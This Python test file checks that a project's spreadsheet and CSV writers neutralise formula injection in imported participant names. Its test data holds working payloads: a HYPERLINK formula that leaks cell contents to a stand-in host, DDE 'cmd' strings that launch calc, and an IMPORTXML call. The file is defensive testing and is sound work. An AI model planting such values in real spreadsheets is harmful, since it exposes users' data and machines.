"""Formula injection: no spreadsheet we write turns imported text into a live formula.

Names starting with each dangerous character go through every writer (bank XLSX and CSV, the
report XLSX, the export CSV); each XLSX is opened with openpyxl and must hold no formula cell,
each CSV cell that starts dangerously must carry the single-quote prefix.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from matcher.bank_io import read_csv, read_xlsx, write_csv, write_xlsx
from matcher.model import Bank
from matcher.reports import build_report, write_export
from matcher.reports.xlsx import write_report_xlsx
from matcher.spreadsheet_safety import (
    DANGEROUS_PREFIXES,
    csv_text,
    guard_workbook,
    is_dangerous,
    unquote_csv,
)
from tests.cases import BANK, PROGRAMME, RESULT

ATTACK = '=HYPERLINK("http://x/?"&B2,"жми")'
EVIL_NAMES = {
    "T1": ATTACK,
    "T2": '+cmd|" /C calc"!A0',
    "T3": "-2+3+cmd|' /C calc'!A0",
    "T4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "T5": '\t=HYPERLINK("http://x/")',
    "T6": '\r=HYPERLINK("http://x/")',
    "S1": "=1+1",
}


def evil_bank() -> Bank:
    people = tuple(
        p.model_copy(update={"full_name": EVIL_NAMES.get(p.id, p.full_name),
                             "experience_text": "=IMPORTXML(\"http://x\",\"//a\")"})
        for p in BANK.participants)
    return Bank(participants=people, conflicts=BANK.conflicts)


def formula_cells(path: Path) -> list[str]:
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_csv_neutralised(text: str) -> None:
    for cell in csv_cells(text):
        assert not is_dangerous(cell), cell


def test_the_guard_prefixes_dangerous_text_only() -> None:
    for prefix in DANGEROUS_PREFIXES:
        assert csv_text(prefix + "x") == "'" + prefix + "x"
        assert unquote_csv(csv_text(prefix + "x")) == prefix + "x"
    assert csv_text("Иванова") == "Иванова"
    assert csv_text("'просто кавычка") == "'просто кавычка"
    assert csv_text(-1.5) == -1.5 and csv_text(-3) == -3  # numbers stay numbers


def test_negative_numbers_stay_numbers_in_xlsx(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([-3, -0.25, "-текст", "=1+1"])
    guard_workbook(wb)
    wb.save(tmp_path / "x.xlsx")
    a, b, c, d = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())  # type: ignore[union-attr]
    assert (a.value, a.data_type) == (-3, "n")
    assert (b.value, b.data_type) == (-0.25, "n")
    assert (c.value, c.data_type) == ("-текст", "s")
    assert (d.value, d.data_type) == ("=1+1", "s")


@pytest.mark.parametrize("template", [False, True])
def test_bank_xlsx_has_no_formula_and_reads_back_the_same_names(tmp_path: Path,
                                                                template: bool) -> None:
    path = tmp_path / "bank.xlsx"
    bank = evil_bank()
    write_xlsx(bank, path, template=template)
    assert formula_cells(path) == []
    names = {p.id: p.full_name for p in read_xlsx(path).bank.participants}
    assert names["T1"] == ATTACK and names["S1"] == "=1+1"


def test_bank_csv_cells_are_prefixed_and_read_back_the_same_names(tmp_path: Path) -> None:
    path = tmp_path / "bank.csv"
    write_csv(evil_bank(), path)
    text = path.read_text(encoding="utf-8-sig")
    assert_csv_neutralised(text)
    cells = csv_cells(text)
    assert "'" + ATTACK in cells
    assert "'" + EVIL_NAMES["T2"] in cells and "'" + EVIL_NAMES["T4"] in cells
    names = {p.id: p.full_name for p in read_csv(path).bank.participants}
    assert names["T1"] == ATTACK and names["T3"] == EVIL_NAMES["T3"]


@pytest.mark.parametrize("lang", ["ru", "en"])
def test_report_xlsx_has_no_formula_cell(tmp_path: Path, lang: str) -> None:
    bank = evil_bank()
    path = tmp_path / "report.xlsx"
    write_report_xlsx(build_report(bank, PROGRAMME, RESULT), path, lang=lang)
    assert formula_cells(path) == []
    wb = load_workbook(path)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert ATTACK in values  # the name is there, as text
    numbers = [v for v in values if isinstance(v, float)]
    assert numbers, "scores and shares stay numeric cells"


def test_export_csv_cells_are_prefixed(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    write_export(evil_bank(), PROGRAMME, RESULT, path, key="k")
    assert_csv_neutralised(path.read_text(encoding="utf-8-sig"))
